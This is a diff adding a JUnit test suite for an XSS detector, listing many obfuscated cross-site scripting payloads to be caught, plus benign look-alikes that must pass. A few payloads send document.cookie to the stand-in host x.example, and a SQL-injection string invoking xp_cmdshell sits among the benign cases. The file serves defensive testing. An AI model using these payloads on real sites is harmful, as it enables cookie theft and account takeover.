@@ -1,0 +1,457 @@
+package dev.lambdaguard.input.detect;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
+import static org.junit.jupiter.api.Assertions.assertNotNull;
+import static org.junit.jupiter.api.Assertions.assertNull;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+import dev.lambdaguard.input.Category;
+import java.util.ArrayList;
+import java.util.List;
+import org.junit.jupiter.api.Test;
+
+/**
+ * The XSS detector, rule by rule: payloads written from how browsers parse markup, URLs, CSS and script (not copied
+ * from the corpus), their obfuscations, and the benign look-alikes that must pass.
+ */
+class XssDetectorTest {
+
+  private final XssDetector detector = new XssDetector();
+
+  private String rule(String value) {
+    Detection d = detector.detect(Normalized.of(value));
+    return d == null ? null : d.ruleId();
+  }
+
+  private void assertRule(String ruleId, String... values) {
+    List<String> wrong = new ArrayList<>();
+    for (String v : values) {
+      String got = rule(v);
+      if (!ruleId.equals(got)) {
+        wrong.add(got + " <- " + v);
+      }
+    }
+    assertTrue(wrong.isEmpty(), "expected " + ruleId + ":\n" + String.join("\n", wrong));
+  }
+
+  private void assertDetected(String... values) {
+    List<String> missed = new ArrayList<>();
+    for (String v : values) {
+      if (rule(v) == null) {
+        missed.add(v);
+      }
+    }
+    assertTrue(missed.isEmpty(), "missed:\n" + String.join("\n", missed));
+  }
+
+  private void assertPasses(String... values) {
+    List<String> flagged = new ArrayList<>();
+    for (String v : values) {
+      String got = rule(v);
+      if (got != null) {
+        flagged.add(got + " <- " + v);
+      }
+    }
+    assertTrue(flagged.isEmpty(), "flagged:\n" + String.join("\n", flagged));
+  }
+
+  // ---------------------------------------------------------------- contract
+
+  @Test
+  void itIsTheXssCategoryWithStableDotSeparatedRuleIds() {
+    assertEquals(Category.XSS, detector.category());
+    for (XssRule r : XssRule.values()) {
+      assertTrue(r.detection.ruleId().matches("xss\\.[a-z]+(-[a-z]+)*"), r.detection.ruleId());
+      assertEquals(Category.XSS, r.detection.category());
+    }
+    assertEquals(95, XssRule.SCRIPT_TAG.score());
+    assertEquals("xss.js-url", XssRule.JS_URL.detection.ruleId());
+    assertEquals("xss.js-url", XssRule.JS_URL_IN_TAG.detection.ruleId());
+  }
+
+  @Test
+  void aDetectionCarriesNoPartOfTheValue() {
+    Detection d = detector.detect(Normalized.of("<img src=x onerror=steal('canary-7f3a')>"));
+    assertNotNull(d);
+    assertFalse(d.toString().contains("canary"));
+    assertFalse(d.ruleId().contains("canary"));
+  }
+
+  @Test
+  void theSameDetectionInstanceIsReturnedSoAScanAllocatesNone() {
+    assertTrue(detector.detect(Normalized.of("<script>go()</script>")) == detector.detect(Normalized.of("<SCRIPT>")));
+  }
+
+  // ---------------------------------------------------------------- xss.script-tag
+
+  @Test
+  void scriptStartTagsAreFoundHoweverTheyAreWritten() {
+    assertRule("xss.script-tag",
+        "<script>fetch('//x.example/c?'+document.cookie)</script>",
+        "<SCRIPT SRC=//x.example/a.js></SCRIPT>",
+        "<sCrIpT>go()</ScRiPt>",
+        "<script\nsrc=//x.example/a.js>",
+        "<script\tasync\fsrc=//x.example/a.js>",
+        "<script/defer/src=//x.example/a.js>",
+        "\"><script src=//x.example/a.js>",
+        "<script src=//x.example/a.js",
+        "<svg><svg:script>go()</svg:script>",
+        "<scr<script>ipt>go()</script>",
+        "<script<{go()}>",
+        "text before <script>go()</script> text after");
+  }
+
+  @Test
+  void aScriptEndTagAloneOrAWordNamedScriptIsNoScriptTag() {
+    assertPasses("</script>", "the script was great", "<scripts are fun>", "<script-editor>", "scripting <b>101</b>");
+  }
+
+  // ---------------------------------------------------------------- xss.event-handler
+
+  @Test
+  void eventHandlersOnAnyTagAreFoundAsTheTokenizerReadsAttributes() {
+    assertRule("xss.event-handler",
+        "<img src=x onerror=go()>",
+        "<svg/onload=go()>",
+        "<body\tonpageshow=go()>",
+        "<made-up onanything=1>",
+        "<details open ontoggle=go()>",
+        "<a href=# OnClIcK=go()>click</a>",
+        "<img/src/onerror=go()>",
+        "<div\fonmouseover=go()>",
+        "<input autofocus onfocus=go()",
+        "<img src=\"a\"onerror=go()>",
+        "<x a='>' onfoo=go()>",
+        "<x a=\"1\" b='2' onclick=\"go()\">",
+        "<img src=`a`onerror=go()>",
+        "<video><source onerror=go()>",
+        "<svg><set attributeName=onclick to=go()>",
+        "<x </onfoo=1");
+  }
+
+  @Test
+  void frameworkEventBindingsRunTheirValueAsHandlersDo() {
+    assertRule("xss.event-handler", "<button @click=\"go()\">", "<x (click)=\"go()\">", "<x v-on:click=\"go()\">",
+        "<x x-on:mouseover=\"go()\">", "<input autofocus ng-focus=\"$event.composedPath()|orderBy:'go'\">");
+    assertPasses("<div ng-app ng-model=\"x\">", "<x (name)>", "<p @>");
+  }
+
+  @Test
+  void aTagInsideAnAttributeValueOrACommentIsReadAsATagToo() {
+    assertRule("xss.event-handler",
+        "<img alt=\"<img src=x onerror=go()>\">",
+        "<!-- <img src=\"--><img src=x onerror=go()//\">",
+        "<style><img title=\"</style><img src=x onerror=go()>\">",
+        "<a title=\"x\" <img src=x onerror=go()>");
+  }
+
+  @Test
+  void wordsThatStartWithOnOrTagsWithoutHandlersAreNoEventHandlers() {
+    assertPasses("<a one=1 only=2>", "<img src=\"cat.png\" alt=\"cat\">", "<input type=\"text\" name=\"q\">",
+        "set the onload handler in your code", "el.onclick = handler;", "window.onload=init",
+        "<div class=\"online\">", "Button(text = \"Save\", onClick = { viewModel.save() })");
+  }
+
+  // ---------------------------------------------------------------- xss.attribute-breakout
+
+  @Test
+  void aQuoteOrSpaceThatEndsAnAttributeValueThenAHandlerIsABreakout() {
+    assertRule("xss.attribute-breakout",
+        "\" onmouseover=go() x=\"",
+        "' autofocus onfocus=go() '",
+        "\"autofocus/onfocus=go()//",
+        " onclick=go()",
+        "x\" onpointerenter=\"go()",
+        "%22%20onmouseover%3Dgo()%20",
+        "'onfocus=`go()` autofocus '");
+  }
+
+  @Test
+  void quotesInProseAndHandlersWithoutCodeAreNoBreakout() {
+    assertPasses("He said \"onclick\" is bad", "I'd say it's 'ok'; really", "\" onx=1", "O'Brien, \"Sean\"",
+        "score=95;grade=A", "name='O''Brien'");
+  }
+
+  // ---------------------------------------------------------------- xss.js-url
+
+  @Test
+  void scriptUrlsInAttributesAreFoundWithTheObfuscationsBrowsersTolerate() {
+    assertRule("xss.js-url",
+        "<a href=\"javascript:go()\">x</a>",
+        "<a href='JaVaScRiPt:go()'>",
+        "<a href=\"jav&#x09;ascript:go()\">",
+        "<a href=\"jav\tascript:go()\">",
+        "<a href=\"java\nscript:go()\">",
+        "<a href=\"&#1;javascript:go()\">",
+        "<a href=\" \u0001 javascript:go()\">",
+        "<a href=\"\\x0Fjavascript:go()\">",
+        "<a href=\"java\u0000script:go()\">",
+        "<a href=\"javascript&colon;go()\">",
+        "<a href=\"java%0ascript:go()\">",
+        "<a href=\"ｊａｖａｓｃｒｉｐｔ：go()\">",
+        "<a href=\"\\u006aavascript:go()\">",
+        "<iframe src=\"vbscript:msgbox(1)\">",
+        "<form action=javascript:go()><button>",
+        "<math><x xlink:href=javascript:go()>x",
+        "<a href=`javascript:go()`>",
+        "<meta http-equiv=refresh content=\"0;url=javascript:go()\">");
+  }
+
+  @Test
+  void aValueThatIsAScriptUrlWithCodeIsFoundOutsideMarkup() {
+    assertRule("xss.js-url",
+        "javascript:go()",
+        "JAVASCRIPT:void(document.title=1)",
+        "javascript://%0ago()",
+        "  javascript:(function(){go()})()",
+        "next=javascript:go()",
+        "vbscript:msgbox(1)");
+  }
+
+  @Test
+  void theWordJavascriptFollowedByProseIsNoScriptUrl() {
+    assertPasses("JavaScript: The Good Parts", "I love javascript: it's fun (mostly)",
+        "JavaScript: (the language) is weird", "javascript:", "see myjavascript:go()",
+        "https://developer.mozilla.org/en-US/docs/Web/JavaScript/Reference");
+  }
+
+  // ---------------------------------------------------------------- xss.data-url
+
+  @Test
+  void dataUrlsThatRenderMarkupOrScriptAreFound() {
+    assertRule("xss.data-url",
+        "<iframe src=\"data:text/html,<b>hi</b>\">",
+        "<object data=\"data:text/html;base64,PGI+aGk8L2I+\">",
+        "<embed src=data:image/svg+xml,x>",
+        "<a href=\"DATA:TEXT/HTML,x\">x</a>",
+        "data:text/html;base64,PGI+aGk8L2I+",
+        "<a href=\"data:application/octet-stream;base64,PHN2ZyBvbmxvYWQ9Z28oKT4=\">x</a>");
+  }
+
+  @Test
+  void imageDataUrlsPass() {
+    assertPasses("data:image/png;base64,iVBORw0KGgo=", "<img src=\"data:image/png;base64,iVBORw0KGgo=\">",
+        "<img src=\"data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=\">",
+        "background: url(data:image/svg+xml;base64,PHN2Zz4=)");
+  }
+
+  // ---------------------------------------------------------------- xss.dangerous-tag
+
+  @Test
+  void tagsThatLoadOrRedirectToActiveContentAreDangerous() {
+    assertRule("xss.dangerous-tag",
+        "<iframe src=//x.example/a.html>",
+        "<iframe srcdoc=\"hello\">",
+        "<object data=//x.example/a.swf>",
+        "<embed src=//x.example/a.swf>",
+        "<applet code=A.class>",
+        "<base href=//x.example/>",
+        "<meta http-equiv=refresh content=\"0;url=//x.example\">",
+        "<meta http-equiv=\"Set-Cookie\" content=\"a=b\">",
+        "<meta charset=utf-7>",
+        "<meta http-equiv=content-type content=\"text/html; charset=x-imap4-modified-utf7\">",
+        "<link rel=import href=//x.example/a.html>",
+        "<xml src=//x.example/a.xml>",
+        "<style type=text/javascript>go()</style>",
+        "<span datasrc=#x datafld=b dataformatas=html>");
+  }
+
+  @Test
+  void theSameTagsDoingOrdinaryThingsPass() {
+    assertPasses("<meta charset=\"utf-8\">", "<meta name=\"viewport\" content=\"width=device-width\">",
+        "<base href=\"/\">", "<link rel=\"stylesheet\" href=\"/style.css\">", "<iframe>", "<object>",
+        "<form action=\"/search\" method=\"get\">", "<style>body { margin: 0; }</style>",
+        "<svg width=\"24\" height=\"24\"><path d=\"M0 0h24v24H0z\"/></svg>", "<?xml version=\"1.0\"?>");
+  }
+
+  // ---------------------------------------------------------------- xss.css-expression
+
+  @Test
+  void ieCssExpressionsAndBindingsAreFoundThroughCommentsAndEscapes() {
+    assertRule("xss.css-expression",
+        "<div style=\"width:expression(go())\">",
+        "<p style=\"x:ex/**/pression(go())\">",
+        "<p style=\"x:\\65 xpression(go())\">",
+        "<p style=\"x:expression\\28go())\">",
+        "<p style=\"x:ｅｘｐｒｅｓｓｉｏｎ(go())\">",
+        "<p style=\"expression(go())\">",
+        "<style>a{b: expression(go())}</style>",
+        "<x style=\"behavior: url(a.htc)\">",
+        "<style>body{-moz-binding:url(//x.example/a.xml#b)}</style>",
+        "x:expression(go())",
+        "\" style=x:expression(go()) \"");
+  }
+
+  @Test
+  void theWordExpressionInProseOrPlainStylesPass() {
+    assertPasses("Usage: expression(args) returns a value", "Syntax: expression (a, b)",
+        "<p style=\"color:red\">hi</p>", "a regular expression (regex)");
+  }
+
+  @Test
+  void aScriptUrlInsideCssIsAScriptUrl() {
+    assertRule("xss.js-url", "<div style=\"background:url(javascript:go())\">",
+        "<div style=\"background:url('\\6a avascript:go()')\">");
+    assertDetected("<style>@import'\\ja\\vasc\\ript:go()';</style>");
+  }
+
+  // ---------------------------------------------------------------- xss.js-context
+
+  @Test
+  void aStringBreakoutInAScriptContextThatCallsAndKeepsParsingIsFound() {
+    assertRule("xss.js-context",
+        "';go(1)//",
+        "\"-go(1)-\"",
+        "\\';go(1)//",
+        "'}go(1);{'",
+        "');go(1)//",
+        "'+go(1)+'",
+        "\";x=new Image;x.src='//x.example/?'+document.cookie;//",
+        "1;go(1)//",
+        "}go(1);{//",
+        "<x title=\"&{go()}\">");
+  }
+
+  @Test
+  void codeSqlAndProseWithQuotesAreNoScriptBreakout() {
+    assertPasses("print('a'); print('b')", "\"Hello \" + name.toUpperCase() + \"!\"", "' or 1=1--",
+        "'; exec xp_cmdshell('dir')--", "' or sleep(5)='", "x = 'a' + f() + 'b'",
+        "console.log(\"it's done\");", "for (int i = 0; i < n; i++) sum += a[i];", "const x = foo(); // init");
+  }
+
+  // ---------------------------------------------------------------- xss.js-sink
+
+  @Test
+  void scriptThatReachesExecutionWithoutMarkupIsASink() {
+    assertRule("xss.js-sink",
+        "alert(1)",
+        "prompt(document.domain)",
+        "confirm()",
+        "[1].map(alert)",
+        "(confirm)(1)",
+        "alert`1`",
+        "top[/al/.source+/ert/.source](1)",
+        "self['al'+'ert'](1)",
+        "eval(location.hash.slice(1))",
+        "eval(atob(name))",
+        "constructor.constructor('go()')()",
+        "{{$on.constructor('go()')()}}",
+        "window.alert(1)",
+        "x=alert,x(1)",
+        "onerror=alert;throw 1");
+  }
+
+  @Test
+  void ordinaryCallsOfTheSameFunctionsPass() {
+    assertPasses("alert(\"Saved!\")", "window[handler](event)", "eval(expr)",
+        "if (confirm(\"Delete this item?\")) remove(id);", "setTimeout(function() { location.reload(); }, 100)",
+        "arr.forEach(function(url) { load(url); })");
+  }
+
+  // ---------------------------------------------------------------- escapes, encodings, obfuscation
+
+  @Test
+  void javascriptEscapesThatSpellMarkupAreReadAsMarkup() {
+    assertRule("xss.script-tag", "\\u003cscript\\u003ego()\\u003c/script\\u003e", "\\x3cscript\\x3e",
+        "\\74script\\76go()", "\\u{3c}script>");
+    assertRule("xss.event-handler", "\\x3cimg src=x onerror=go()\\x3e", "<img src=x \\x0Bonerror=go()>");
+  }
+
+  @Test
+  void namesSpelledWithEscapesOrReferencesAreObfuscatedCalls() {
+    assertRule("xss.obfuscated-call", "go\\u0031(1)", "top['g\\x6f'](1)", "top[\"g\\157\"](1)",
+        "go&lpar;1&rpar;", "go&#40;1&#41", "go&#x28;1&#x29;");
+    assertPasses("C:\\Users\\x64\\file.txt", "\"caf\\u00e9\"", "printf(\"%d\\n\", x);",
+        "It&#39;s great &#40;really&#41;");
+  }
+
+  @Test
+  void encodingsAreUndoneBeforeTheTokenizerReads() {
+    assertRule("xss.script-tag",
+        "%3Cscript%3Ego()%3C/script%3E",
+        "%253Cscript%253E",
+        "&lt;script&gt;go()&lt;/script&gt;",
+        "&#60;script&#x3E;",
+        "＜ｓｃｒｉｐｔ＞",
+        "<scr%00ipt>go()</script>",
+        "+ADw-script+AD4-go()+ADw-/script+AD4-",
+        "\"><script+src=//x.example/a.js></script>");
+    assertRule("xss.event-handler", "%3Cimg%20src%3Dx%20onerror%3Dgo()%3E", "<img\nsrc=x\nonerror=go()>",
+        "&lt;svg/onload=go()&gt;", "\u00bcimg src=x onerror=go()\u00be");
+  }
+
+  @Test
+  void markupOnlyACharsetTrickReadsIsEncodedMarkup() {
+    assertRule("xss.encoded-markup", "+ADw-b+AD4-hi+ADw-/b+AD4-");
+  }
+
+  @Test
+  void aValueThatIsOnlyAnEncodedAngleBracketIsAProbe() {
+    assertRule("xss.encoded-probe", "&#x3c;", "&lt;", "%3C", "\\u003c", "\\x3e", "&#0000060");
+    assertPasses("<", ">", "&lt;3", "a &lt; b");
+  }
+
+  // ---------------------------------------------------------------- benign look-alikes
+
+  @Test
+  void textWithAngleBracketsAndCodeSnippetsPass() {
+    assertPasses(
+        "a < b < c", "x<y and y>z", "Meh. Battery life < 6 hrs; the ad said > 10", "<3", "i <3 u", "ILoveMyDog<3",
+        "Jane Doe <jane.doe@example.com>", "<john@example.com>", "Tom & Jerry", "AT&T", "if (a < b) { return; }",
+        "List<String> names = new ArrayList<>();", "Map<String, List<Integer>> byDay = new HashMap<>();",
+        "public static <T extends Comparable<T>> T max(List<T> xs)", "#include <stdio.h>",
+        "std::vector<int> v{1, 2, 3};", "template<typename T> T id(T t);", "Kids under 12 (<12) eat free",
+        "<-- back | next -->", "x => x * 2", "a<b>c", "<=5 items", "0 <= p <= 1", "if x < 5 and y > 3 then z = x + y",
+        "arr.filter(x => x % 2 === 0)", "pip install 'requests>=2.31,<3'", "match x { Some(v) => v, None => 0 }");
+  }
+
+  @Test
+  void markdownUrlsHtmlEscapedTextAndHarmlessTagsPass() {
+    assertPasses(
+        "**bold** _it_ [link](https://example.com) `code`", "> quoted text\n> more",
+        "https://www.example.com/search?q=shoes&size=10&on=1", "mailto:john@example.com", "tel:+15551234567",
+        "Great product! &lt;b&gt;Highly&lt;/b&gt; recommend.", "&quot;Best purchase ever&quot;",
+        "<kbd>Ctrl</kbd> + <kbd>C</kbd>", "<name>Jane</name>", "<!-- -->", "<dependency> goes in <dependencies>",
+        "<a href=\"https://example.com\">link</a>", "<b>bold</b> and <i>it</i>", "<br/>", "<?php echo $x; ?>",
+        "<https://example.com/docs>", "time: 10:30, ratio 3:2", "Re: your order #12345 (shipped)",
+        "curl -H \"Accept: application/json\" https://api.example.com/v1/items?id=3",
+        "ls -la | grep foo; echo \"done\"", "{\"a\": \"b\", \"c\": [1, 2], \"on\": true}",
+        "SELECT * FROM t WHERE a = 'x';", "document.getElementById('app').textContent = name;",
+        "window.location.href = \"/home\";", "$(\"#id\").on(\"click\", fn);", "print(f\"{name}: {value}\")",
+        "The ::before pseudo-element", "a[href^=\"http\"] { color: blue; }", "template literal `${name}` in JS",
+        "Step 1 > Step 2 > Step 3", "ok:true", "password: hunter2 (don't share!)");
+  }
+
+  @Test
+  void textInOtherScriptsAndEmojiPasses() {
+    assertPasses("Доставка завтра (до 18:00)", "注文番号：12345（確認済み）", "¡Hola! ¿Qué tal?", "👍 great <3 🎉",
+        "مرحبا: كيف حالك؟", "Ｔｏｋｙｏ：ｏｋ");
+  }
+
+  // ---------------------------------------------------------------- adversarial input
+
+  @Test
+  void aMegabyteOfNearMissesIsScannedWithoutBlowingUp() {
+    String[] units = {"<", "<a", "<a ", "<a b=", "<a b=\"", "<a/", "</a", "<?a ", "<script", "<style>", "'", "\"",
+        "`", "'-", "';a", "';a(", "\\", "\\x", "\\u0061", "\\6a", ":", "j:", "javascript", "java\tscript",
+        "data:", "x:expression", "(", "[", "top[", "alert(", "=alert,", " onx=", "\"onx=a(", "&{", "/*", "'/*",
+        "};a(", "+ADw", "\u00bc"};
+    for (String unit : units) {
+      String value = unit.repeat((1 << 20) / unit.length() + 1);
+      Detection d = detector.detect(Normalized.of(value));
+      if (d != null) {
+        assertTrue(d.score() > 0 && d.score() <= 100);
+      }
+    }
+    String longAttributes = "<a " + "b=c ".repeat(250_000) + "onclick=go()>";
+    assertEquals("xss.event-handler", rule(longAttributes));
+  }
+
+  @Test
+  void aValueBeyondTheScanCapIsReadUpToTheCap() {
+    String padding = "x".repeat(XssDetector.MAX_SCAN);
+    assertNull(rule(padding + "<script>"));
+    assertEquals("xss.script-tag", rule("<script>" + padding));
+  }
+}
